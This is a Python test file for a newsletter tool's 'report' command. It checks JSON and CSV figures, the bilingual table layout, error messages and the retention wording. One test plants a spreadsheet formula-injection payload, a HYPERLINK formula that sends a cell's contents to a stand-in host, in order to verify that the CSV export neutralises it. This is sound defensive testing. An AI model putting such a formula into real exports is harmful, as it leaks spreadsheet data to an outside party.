"""`newsletter report` as an operator runs it, over the scenario on both engines."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import sqlalchemy as sa

from pipeline import db
from tests.conftest import Project
from tests.report.conftest import AUFTAKT, CALENDAR


def test_report_json_has_the_keys_the_design_names(reported: Project) -> None:
    found = json.loads(reported.run("report", "1", "--json").stdout)
    for key in (
        "issue",
        "recipients",
        "delivered",
        "failed",
        "bounced",
        "complaints",
        "unsubscribed",
        "clicks",
        "machine_clicks",
        "links",
    ):
        assert key in found, key
    assert found["issue"] == 1
    assert (found["recipients"], found["delivered"], found["failed"]) == (11, 5, 1)
    assert (found["bounced"], found["blocked"], found["complaints"]) == (3, 1, 1)
    assert (found["unsubscribed"], found["clicks"], found["machine_clicks"]) == (3, 6, 4)
    assert (found["clicking_readers"], found["agreed"]) == (4, 5)
    assert found["click_through_rate"] == 0.8
    link = next(link for link in found["links"] if link["url"] == AUFTAKT)
    assert (link["item"], link["clicks"], link["machine_clicks"]) == ("Jahresauftakt", 5, 3)
    assert [v["variant"] for v in found["variants"]] == ["de", "de:netzwerk", "en"]
    assert found["opens"] is None, "opens are off in the demo's config"


def test_report_without_a_number_is_the_last_issue(reported: Project) -> None:
    assert json.loads(reported.run("report", "--json").stdout)["issue"] == 2


def test_report_csv_has_one_row_per_link_and_variant(reported: Project) -> None:
    rows = list(csv.DictReader(io.StringIO(reported.run("report", "1", "--csv").stdout)))
    assert len(rows) == 7
    assert {(r["variant"], r["position"]) for r in rows} == {
        ("de", "1"),
        ("de", "2"),
        ("de", "3"),
        ("de:netzwerk", "1"),
        ("en", "1"),
        ("en", "2"),
        ("en", "3"),
    }
    calendar = next(r for r in rows if r["variant"] == "en" and r["url"] == CALENDAR)
    assert (calendar["item"], calendar["section"], calendar["kind"]) == (
        "Werkstatt",
        "event",
        "calendar",
    )
    assert (calendar["clicks"], calendar["machine_clicks"]) == ("0", "1")
    first = next(r for r in rows if r["variant"] == "de" and r["position"] == "1")
    assert (first["clicks"], first["clicking_readers"], first["agreed"]) == ("3", "1", "2")


def test_the_table_fits_80_columns_in_german_and_english(reported: Project) -> None:
    german = reported.run("report", "1", "--lang", "de").stdout
    english = reported.run("report", "1", "--lang", "en").stdout
    for text in (german, english):
        assert max(len(line) for line in text.splitlines()) <= 80, text
        assert "…" not in text, "nothing cut off"
        assert "https://example.org/berichte/jahresauftakt" in text
    assert "4 of 5 who agreed (80%)" in english
    # Babel writes a no-break space before the German per cent sign.
    assert "4 von 5, die zugestimmt haben (80\xa0%)" in german
    assert "Zugestellt" in german and "Delivered" in english
    assert "Apple Mail" not in english, "opens are off: no word of them"
    # --lang is the command line's, before the command as after it; the site's by default.
    assert reported.run("--lang", "en", "report", "1").stdout == english
    assert reported.run("report", "1").stdout == german


def test_opens_are_shown_apart_with_the_proxy_caveat(reported: Project) -> None:
    reported.edit_config(lambda raw: raw.update(analytics={"opens": True}))
    text = " ".join(reported.run("report", "1", "--lang", "en").stdout.split())
    assert "privacy proxies such as Apple Mail load every image" in text
    assert "4 opens, 1 by machines; 2 of 5 who agreed opened." in text
    found = json.loads(reported.run("report", "1", "--json").stdout)
    assert found["opens"]["opens"] == 4 and found["opens"]["opening_readers"] == 2


def test_an_unknown_issue_is_named_in_one_line(reported: Project) -> None:
    result = reported.run("report", "9", check=False)
    assert result.returncode == 1
    assert result.stderr.strip() == "error: issue 9 does not exist"
    both = reported.run("report", "--json", "--csv", check=False)
    assert both.returncode == 2 and "--json and --csv" in both.stderr
    beyond = reported.run("report", "99999999999", check=False)  # more than PostgreSQL's int
    assert beyond.returncode == 1
    assert beyond.stderr.strip() == "error: issue 99999999999 does not exist"
    language = reported.run("report", "--lang", "fr", check=False)
    assert language.returncode == 2 and "--lang" in language.stderr


def test_status_shows_the_figures_the_report_shows(reported: Project) -> None:
    status = json.loads(reported.run("status", "--json").stdout)
    for issue in status["issues"]:
        report = json.loads(reported.run("report", str(issue["number"]), "--json").stdout)
        for key in (
            "recipients",
            "delivered",
            "failed",
            "bounced",
            "blocked",
            "complaints",
            "unsubscribed",
            "clicks",
            "machine_clicks",
            "clicking_readers",
            "agreed",
        ):
            assert issue[key] == report[key], (issue["number"], key)


def test_report_before_any_issue_says_so(project: Project) -> None:
    project.run("db", "upgrade")
    result = project.run("report", check=False)
    assert result.returncode == 1
    assert result.stderr.strip() == "error: no issue has been built yet"


def test_a_csv_cell_from_a_feed_never_runs_as_a_spreadsheet_formula(reported: Project) -> None:
    engine = db.make_engine(reported.config().database.url)
    try:
        with engine.begin() as connection:
            connection.execute(sa.update(db.items).values(title='=HYPERLINK("http://x/?"&A1,"x")'))
    finally:
        engine.dispose()
    rows = list(csv.DictReader(io.StringIO(reported.run("report", "1", "--csv").stdout)))
    titled = [row["item"] for row in rows if row["item"]]
    assert titled and all(title.startswith("'=HYPERLINK(") for title in titled)


def test_an_issue_past_the_retention_says_its_readers_are_no_longer_known(
    reported: Project,
) -> None:
    reported.edit_config(lambda raw: raw.update(analytics={"retention_days": 1}))
    engine = db.make_engine(reported.config().database.url)
    try:
        with engine.begin() as connection:
            connection.execute(sa.update(db.issues).values(created_at=db.now() - timedelta(days=2)))
    finally:
        engine.dispose()
    text = " ".join(reported.run("report", "1", "--lang", "en").stdout.split())
    assert "its clicks no longer name anyone" in text
    assert json.loads(reported.run("report", "1", "--json").stdout)["readers_kept"] is False
